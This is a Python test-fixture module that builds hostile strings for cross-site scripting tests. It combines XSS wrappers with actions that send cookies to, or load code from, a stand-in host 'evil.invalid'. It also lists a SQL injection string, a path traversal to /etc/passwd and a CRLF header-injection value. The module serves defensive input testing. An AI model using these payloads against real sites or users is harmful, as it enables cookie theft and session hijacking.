"""Hostile strings: markup, scripts and control characters for cross-site scripting tests (P-19)."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from random import Random

# What each does if it is taken for markup, a script, an address or a message.
ACTS = (
    "alert(1)",
    "top.alert`1`",
    "fetch('//evil.invalid/'+document.cookie)",
    "new Image().src='//evil.invalid/x'",
    "import('//evil.invalid/m.js')",
    "location='//evil.invalid/'",
    "document.body.innerHTML=1",
    "navigator.sendBeacon('//evil.invalid/')",
)
SHELLS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><iframe srcdoc='<script>{}</script>'>",
    "</title><script>{}</script>",
    "</textarea><img src=x onerror={}>",
    "<a href=javascript:{}>",
    "<style>@import '//evil.invalid/{}'</style>",
    "<link rel=stylesheet href=//evil.invalid/{}>",
    "<base href=//evil.invalid/{}>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/{}>",
    "<form action=//evil.invalid/{}><button>",
    "<object data=//evil.invalid/{}>",
    "<video><source onerror={}>",
    "<math><mtext><img src=x onerror={}>",
    "<svg><use href=//evil.invalid/#{}>",
    "<div style=background:url(//evil.invalid/{})>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "`-{}-`",
    "';{};//",
    "\\u003cscript\\u003e{}",
    "&lt;img src=x onerror={}&gt;",
    "%3Cscript%3E{}",
    "{{seat}} {{n, plural, other {{#}}}} {}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)
# Letters that upset a page by themselves.
LETTERS = (
    "\u202eevil\u202c",
    "\u0000\u0007\u001b[2J",
    "Z\u0335\u0321\u0322\u0327a\u0334l\u0337g\u0338o\u0335" * 4,
    "\ufeff\u200b\u200d\u2060",
    "𝕳𝖊𝖑𝖕",
    "👻" * 30,
    "\U000e0041\U000e0042",
    "ﷺ" * 20,
    "a" * 400,
    "__proto__",
    "constructor",
    "null",
    "-1",
    "' OR 1=1 --",
    "../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
)


def hostile_strings(count: int, seed: int = 0) -> list[str]:
    """So many different hostile strings, some of every sort."""
    made = [shell.format(act) for shell, act in product(SHELLS, ACTS)]
    rng = Random(seed)
    rng.shuffle(made)
    return list(islice(mixed(made, list(LETTERS), rng), count))


def mixed(made: list[str], letters: list[str], rng: Random) -> Iterator[str]:
    """Both sorts by turns; then joined, for as long as anybody wants more."""
    for one, other in zip(made, letters, strict=False):
        yield one
        yield other
    yield from made[len(letters) :]
    while True:
        yield rng.choice(letters)[:12] + rng.choice(made) + rng.choice(made)
